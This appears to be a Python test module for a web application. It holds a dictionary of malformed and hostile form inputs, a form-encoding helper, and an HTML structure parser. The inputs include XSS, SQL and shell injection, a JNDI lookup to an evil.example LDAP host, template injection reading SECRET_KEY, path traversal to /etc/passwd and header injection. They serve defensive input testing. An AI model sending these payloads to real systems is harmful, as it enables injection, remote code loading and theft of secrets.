"""What somebody types, or a program sends, to see what breaks; and how it is sent."""

from collections.abc import Iterable, Mapping
from html.parser import HTMLParser
from urllib.parse import urlencode

KB = 1024
FORM = "application/x-www-form-urlencoded"

STRINGS: dict[str, str] = {
    # Lines and controls
    "a header more": "Claire\r\nBcc: eve@evil.example",
    "a body": "\r\n\r\n<script>alert(1)</script>",
    "line feed": "Cla\nire",
    "Unicode's line ends": "a\u2028b\u2029c\u0085d\x0be\x0cf",
    "NUL": "Cla\x00ire",
    "escape sequence": "\x1b[2J\x1b[31mred",
    "information separators": "a\x1cb\x1ed",
    "DEL and C1": "a\x7fb\x9bc",
    # Unicode
    "high surrogate": "a\ud800b",
    "low surrogate": "a\udfffb",
    "surrogates the wrong way round": "\ude00\ud83d",
    "replacement": "a\ufffdb",
    "noncharacter": "a\uffffb",
    "private use": "a\ue000b",
    "tags": "a\U000e0041\U000e007fb",
    "right to left override": "Du\u202epont\u202c",
    "isolates left open": "\u2066\u2067\u2068" * 20,
    "marks of direction": "a\u200e\u200f\u061cb",
    "zero width": "C\u200bl\u200ca\u200di\u2060re\ufeff",
    "soft hyphens": "Clai\u00adre",
    "Arabic and Hebrew": "\u0645\u062d\u0645\u062f \u05e9\u05dc\u05d5\u05dd",
    "emoji": "\U0001f600 \U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1eb\U0001f1f7 \u2764\ufe0f",
    "combining marks": "Z" + "\u0301\u0316" * 40,
    "combining bomb": "a" + "\u0301" * 20_000 + "\u0316" * 20_000,
    "grows in NFKC": "\ufdfa" * 80,
    "grows when folded": "\u0130" * 64 + "\u00df" * 15,
    "full width markup": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "digits from elsewhere": "\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668\u0669\u0660\u0661\u0662\u0663\u0664",
    "superscripts": "\u00b9\u00b2\u00b3\u2460",
    # Markup and templates
    "script": "<script>alert(1)</script>",
    "out of an attribute": '"><svg onload=alert(1)>',
    "out of a quote": "' autofocus onfocus='alert(1)",
    "out of a text area": "</textarea></title><img src=x onerror=alert(1)>",
    "open comment": "<!-- <![CDATA[ <?php",
    "already escaped": "&lt;b&gt; &amp;amp; &#60;i&#62;",
    "address of a script": "javascript:alert(document.cookie)//",
    "template": "{{ settings.SECRET_KEY }}{% load static %}{# x #}",
    "other templates": "${7*7} #{7*7} <%= 7*7 %> *{7*7} @{7*7}",
    "Python format": "{0.__class__.__mro__} {name!r} {",
    "C format": "%(x)s %s %n %d %",
    "mail template": "[button]",
    "Markdown": "[ici](https://evil.example) **gras** `x`",
    # Other languages
    "SQL": "' OR '1'='1' --",
    "DROP TABLE": "Robert'); DROP TABLE accounts_user;--",
    "LIKE": "%_\\%",
    "shell": "$(id) `id` ; | && > /tmp/x",
    "jndi": "${jndi:ldap://evil.example/a}",
    "formula": "=HYPERLINK(1)+@SUM(-1)",
    "JSON": '{"a": [1, NaN, {"$gt": ""}]}',
    "path": "../../../../etc/passwd\\..\\con",
    "other site": "//evil.example/\\@evil.example:80",
    # Encoded twice
    "encoded twice": "%253Cscript%253E%2500",
    "encoded line end": "%0d%0aSet-Cookie:%20session=1",
    # Numbers, dates, lengths
    "negative": "-1",
    "float": "1e309",
    "no such date": "2026-02-30T25:61",
    "spaces": " \u00a0\u2003\t" * 100,
    "10 kB": "a" * 10 * KB,
    "200 kB": "a" * 200 * KB,
    "200 kB of digits": "9" * 200 * KB,
}


def form(fields: Mapping[str, str] | Iterable[tuple[str, str]]) -> bytes:
    """As a form sends it; half a surrogate pair goes too, which no browser would send."""
    pairs = fields.items() if isinstance(fields, Mapping) else fields
    return urlencode(list(pairs), encoding="utf-8", errors="surrogatepass").encode("ascii")


class Skeleton(HTMLParser):
    """The tags of a page and the names of their attributes: what a typed text must never change."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, ...]] = []
        self.words: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, *(name for name, _value in attributes)))
        self.words += [value or "" for _name, value in attributes]

    def handle_endtag(self, tag: str) -> None:
        self.tags.append((f"/{tag}",))

    def handle_comment(self, data: str) -> None:
        self.tags.append(("comment", data))

    def handle_data(self, data: str) -> None:
        self.words.append(data)
